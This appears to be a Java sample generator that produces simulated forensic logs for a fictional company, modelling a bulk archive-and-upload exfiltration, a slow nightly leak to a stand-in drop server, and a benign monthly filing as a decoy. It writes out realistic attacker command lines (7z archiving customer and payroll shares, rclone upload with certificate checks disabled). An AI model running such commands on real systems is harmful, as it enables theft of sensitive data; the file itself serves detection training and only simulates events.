package konseki.samples;

/// Data that leaves: in one evening to a file-sharing service, or a little every night to a server of the attacker.
final class Exfiltration {

    /// What the large transfer sends in total.
    static final long LARGE_TOTAL = 4_000_000_000L;
    /// What the slow transfer sends every night.
    static final long SLOW_NIGHTLY = 20_000_000;

    private static final String CMD = "C:\\Windows\\System32\\cmd.exe";
    private static final String ARCHIVER = "C:\\ProgramData\\7z\\7z.exe";
    private static final String UPLOADER = "C:\\ProgramData\\rc\\rclone.exe";
    private static final String SYNC = "C:\\ProgramData\\OpsAgent\\syncsvc.exe";

    private final Estate estate;

    Exfiltration(Estate estate) {
        this.estate = estate;
    }

    /// FS01 packs the customers' folders and uploads 4 GB in ten sessions.
    void large(long from) {
        Dice dice = Dice.named("large transfer");
        Activity activity = estate.on(Company.FS01);
        RunningProgram archiver = activity.start(
                from - 16 * Jst.MINUTE,
                Logon.SYSTEM,
                ARCHIVER,
                "7z.exe a -mx1 -v400m -pq7Hc2 C:\\ProgramData\\7z\\c.7z E:\\Share\\Customers E:\\Share\\Payroll",
                CMD);
        for (int volume = 1; volume <= 10; volume++) {
            activity.create(
                    from - 15 * Jst.MINUTE + volume * 71_000L,
                    archiver,
                    "C:\\ProgramData\\7z\\c.7z." + Jst.padded(volume, 3));
        }
        RunningProgram uploader = activity.start(
                from,
                Logon.SYSTEM,
                UPLOADER,
                "rclone.exe copy C:\\ProgramData\\7z remote:c --transfers 1 --no-check-certificate --config C:\\ProgramData\\rc\\r.conf",
                CMD);
        long at = from + 4_000;
        for (int volume = 1; volume <= 10; volume++) {
            int port = dice.clientPort();
            long bytes = LARGE_TOTAL / 10;
            long seconds = dice.between(215, 290);
            activity.connect(at, uploader, port, Company.SHARING_SERVICE, 443);
            at += seconds * Jst.SECOND;
            estate.firewall()
                    .log(Flow.tcp(
                                    at,
                                    Company.FS01.address(),
                                    port,
                                    Company.SHARING_SERVICE,
                                    443,
                                    Policy.FILE_SERVER_SUPPORT)
                            .carrying(bytes, bytes / 70 + dice.between(0, 40_000), seconds)
                            .named("store7.gofile.io"));
            at += dice.between(900, 2_200);
        }
    }

    /// FS01 sends 20 MB in four sessions, late in the evening.
    void nightly(long day) {
        Dice dice = Dice.named("slow transfer " + Jst.date(day));
        Activity activity = estate.on(Company.FS01);
        long at = day + 23 * Jst.HOUR + dice.between(5, 20) * Jst.MINUTE;
        RunningProgram sync =
                activity.start(at - 1_500, Logon.SYSTEM, SYNC, SYNC + " --once", "C:\\Windows\\System32\\svchost.exe");
        for (int part = 0; part < 4; part++) {
            int port = dice.clientPort();
            long bytes = SLOW_NIGHTLY / 4;
            long seconds = dice.between(20, 70);
            activity.connect(at, sync, port, Company.DROP_SERVER, 443);
            at += seconds * Jst.SECOND;
            estate.firewall()
                    .log(Flow.tcp(
                                    at,
                                    Company.FS01.address(),
                                    port,
                                    Company.DROP_SERVER,
                                    443,
                                    Policy.FILE_SERVER_SUPPORT)
                            .carrying(bytes, bytes / 9 + dice.between(0, 20_000), seconds)
                            .named("cdn-sync.telemetry-hub.example"));
            at += dice.between(60, 240) * Jst.SECOND;
        }
    }

    /// Not the attacker: APP01 sends the monthly notices to the government's filing service, as it does every month.
    void monthlyFiling(long from) {
        Dice dice = Dice.named("filing");
        long at = from;
        for (int part = 0; part < 3; part++) {
            long seconds = dice.between(60, 110);
            at += seconds * Jst.SECOND;
            long bytes = dice.around(20_400_000, 6);
            estate.firewall()
                    .log(Flow.tcp(
                                    at,
                                    Company.APP01.address(),
                                    dice.clientPort(),
                                    Company.FILING_SERVICE,
                                    443,
                                    Policy.FILING)
                            .carrying(bytes, bytes / 32, seconds)
                            .named("shinsei.e-gov.example"));
            at += 9_000;
        }
    }
}
